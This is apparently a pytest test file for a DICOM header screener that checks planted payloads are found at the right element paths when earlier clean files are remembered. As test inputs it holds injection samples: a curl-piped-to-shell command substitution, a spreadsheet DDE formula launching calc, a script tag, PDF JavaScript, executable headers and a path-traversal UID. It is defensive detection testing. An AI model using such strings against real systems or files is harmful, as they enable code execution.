"""What stands in a known header is judged where it differs, and found where it is."""

from __future__ import annotations

import pytest

from harness import payloads
from harness.hidden import DataSet, encode, image
from strongroom.dicom.dictionary import EXPLICIT_VR_LITTLE_ENDIAN, IMPLICIT_VR_LITTLE_ENDIAN
from strongroom.screen import judge
from strongroom.screen.findings import Report
from strongroom.screen.limits import DEFAULT_LIMITS, ScreenLimits
from strongroom.screen.runs import ScreenMemory
from strongroom.screen.screening import Screening

COMMENT, SEQUENCE, CREATOR, BLOB, UNKNOWN = 0x00204000, 0x00400275, 0x00110010, 0x00111001, 0x00111002
FRAME, ICON = 0x00200052, 0x00880200
DOCUMENT = payloads.pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
DOCUMENT += bytes(len(DOCUMENT) & 1)
PACKED = b"\x1f\x8b\x08\0\0\0\0\0\0\3".ljust(64, b"\x99")
ODD = b"Head (native) [H30s] & neck"


def base(comment: bytes = b"c" * 40, inner: bytes = b"i" * 40, blob: bytes = bytes(range(64))) -> DataSet:
    return image() | {
        COMMENT: ("LT", comment),
        SEQUENCE: ("SQ", [{0x00321060: ("LO", b"first")}, {0x00321060: ("LO", inner)}]),
        CREATOR: ("LO", b"STRONGROOM TEST"),
        BLOB: ("OB", blob),
        UNKNOWN: ("UN", b"\1" * 64),
        FRAME: ("UI", b"2.25.12345"),
        ICON: ("SQ", [{0x7FE00010: ("OW", bytes(len(PACKED)))}]),
        0x00420011: ("OB", bytes(len(DOCUMENT))),
    }


def screened(data_set: DataSet | bytes, memory: ScreenMemory | None, limits: ScreenLimits = DEFAULT_LIMITS) -> Report:
    screening = Screening(limits, EXPLICIT_VR_LITTLE_ENDIAN, memory)
    screening.feed(data_set if isinstance(data_set, bytes) else encode(data_set))
    return screening.finish()


def memory_of(*objects: DataSet) -> ScreenMemory:
    memory = ScreenMemory()
    for each in objects:
        assert screened(each, memory).findings == ()
    return memory


@pytest.mark.parametrize(
    ("altered", "path", "rule"),
    [
        (base(comment=b"<script>alert(1)</script>".ljust(40)), "(0020,4000)", "SR-TXT-002"),
        (base(inner=b"$(curl example.org | sh)".ljust(40)), "(0040,0275)[2].(0032,1060)", "SR-TXT-006"),
        (base(blob=payloads.elf()[:64]), "(0011,1001)", "SR-ELF-001"),
        (base() | {FRAME: ("UI", b"2.25./../3")}, "(0020,0052)", "SR-UID-001"),
        (base() | {ICON: ("SQ", [{0x7FE00010: ("OW", PACKED)}])}, "(0088,0200)[1].(7FE0,0010)", "SR-PACK-001"),
        (base() | {0x00420011: ("OB", DOCUMENT)}, "(0042,0011)", "SR-PDF-002"),
    ],
)
def test_a_payload_in_a_value_that_was_clean_is_found(altered: DataSet, path: str, rule: str) -> None:
    memory = memory_of(base(), base(), base())
    for _ in range(3):
        found = screened(altered, memory)
        assert found == screened(altered, None)
        assert (rule, path) in {(each.rule.id, each.place.path) for each in found.findings}
    assert screened(base(), memory).findings == ()


def test_a_program_across_two_known_values_is_found_where_it_begins() -> None:
    """Neither value has it, and a header is in its middle: the search has it, and asks what stands there."""
    first, second = b"PE\0\0\x4c\1\3\0".rjust(64, b"\1"), b"\xe0\0\2\1\x0b\1".ljust(64, b"\1")
    memory = memory_of(base(), base(), base())
    altered = base(blob=first) | {UNKNOWN: ("UN", second)}
    found = screened(altered, memory)
    assert found == screened(altered, None)
    at = encode(altered).index(b"PE\0\0")
    assert [(each.rule.id, each.place.path, each.place.offset) for each in found.findings] == [
        ("SR-PE-001", "(0011,1001)", at)
    ]


def test_an_unknown_value_that_becomes_a_sequence_is_walked() -> None:
    memory = memory_of(base(), base(), base())
    inner = encode({0x00321060: ("LO", b"=cmd|' /C calc'!A0".ljust(48))})
    item = b"\xfe\xff\x00\xe0" + len(inner).to_bytes(4, "little") + inner
    altered = base() | {UNKNOWN: ("UN", item)}
    assert len(item) == 64
    assert screened(altered, memory) == screened(altered, None)


def test_values_are_judged_once(monkeypatch: pytest.MonkeyPatch) -> None:
    looks: list[bytes] = []
    look = judge.text.check_text
    monkeypatch.setattr(judge.text, "check_text", lambda value: looks.append(value) or look(value))
    series = [base(comment=ODD.ljust(40)) | {0x00200013: ("IS", b"%d" % number)} for number in range(10, 20)]
    memory = memory_of(*series)
    assert looks == [ODD.ljust(40)] * 2  # by the walk, and as a value of a run that has none yet
    assert screened(series[0], memory).findings == ()
    assert len(looks) == 2


def test_encodings_have_memories_of_their_own() -> None:
    memory = memory_of(base(), base())
    raw = encode(base(), explicit=False)
    screening = Screening(DEFAULT_LIMITS, IMPLICIT_VR_LITTLE_ENDIAN, memory)
    screening.feed(raw)
    assert screening.finish().findings == ()
    assert memory.of(IMPLICIT_VR_LITTLE_ENDIAN, DEFAULT_LIMITS).runs
    assert screened(base(), memory).findings == ()


def odd_texts(group: int, count: int) -> DataSet:
    texts = {group << 16 | 0x1000 + number: ("LT", ODD.ljust(40)) for number in range(count)}
    return {group << 16 | 0x10: ("LO", b"STRONGROOM TEST"), **texts}  # type: ignore[dict-item]


def binaries(group: int, count: int, value: bytes) -> DataSet:
    return {group << 16 | 0x1000 + number: ("OB", value) for number in range(count)}


@pytest.mark.parametrize("most", range(70, 130, 6))
def test_looks_run_out_at_the_same_place(most: int) -> None:
    """Those of texts and those of other values, whether walked or known: what is known may lie before or behind."""
    common = base() | odd_texts(0x13, 25) | {0x00081030: ("LO", b"a\0 ")}
    objects = [
        common | binaries(0x15, 20, bytes([size]) * 32) | {0x00200013: ("IS", b"1" * size), **more}
        for size in (1, 1, 3)
        for more in ({}, {}, odd_texts(0x11, 25), odd_texts(0x17, 25), binaries(0x17, 70, b"\1" * (40 + 2 * size)))
    ]
    for limits in (
        ScreenLimits(min_looks=most, bytes_per_look=1 << 20),
        ScreenLimits(min_looks=most // 4, bytes_per_look=1 << 20),
    ):
        memory = ScreenMemory()
        for each in objects:
            assert screened(each, memory, limits) == screened(each, None, limits)


def test_what_was_not_looked_at_is_not_known_to_be_clean() -> None:
    limits = ScreenLimits(min_looks=10, bytes_per_look=1 << 20)
    packed: DataSet = {0x00151100: ("OB", PACKED)}
    full, half = (image() | binaries(0x15, 12, fill * 64) | packed for fill in (b"\1", b"\0"))
    memory = ScreenMemory()
    for each in (full, full, full, half, half):
        assert screened(each, memory, limits) == screened(each, None, limits)
    assert "SR-PACK-001" in {each.rule.id for each in screened(half, memory, limits).findings}


@pytest.mark.parametrize("most", range(50, 100, 4))
def test_elements_and_items_run_out_at_the_same_place(most: int) -> None:
    limits = ScreenLimits(max_elements=most)
    items: DataSet = {0x00081140: ("SQ", [{} for _ in range(40)])}
    memory = ScreenMemory()
    for more in ({}, {}, {0x00400440: ("SQ", [{} for _ in range(20)])}, *[odd_texts(0x09, 20), {}] * 3):
        each = base() | items | more
        assert screened(each, memory, limits) == screened(each, None, limits)


def test_an_element_out_of_order_before_a_known_run_is_seen() -> None:
    raw = encode(base())
    memory = memory_of(base(), base(), base())
    late = encode({0x00104000: ("LT", b"out of order")})
    behind_run = raw.index(b"\x42\0\x11\0OB")
    for altered in (
        late + raw,
        raw[:behind_run] + late + raw[behind_run:],
        encode({0x00080001: ("UL", bytes(4))}) * 2 + raw,
    ):
        assert screened(altered, memory) == screened(altered, None)
        assert screened(altered, None).findings


def test_what_the_pixels_are_held_against_is_that_of_the_object() -> None:
    memory = memory_of(base(), base(), base())
    altered = base() | {0x00280010: ("US", b"\x80\0")}
    assert [each.rule.id for each in screened(altered, memory).findings] == ["SR-PIX-002"]
    assert screened(base(), memory).findings == ()
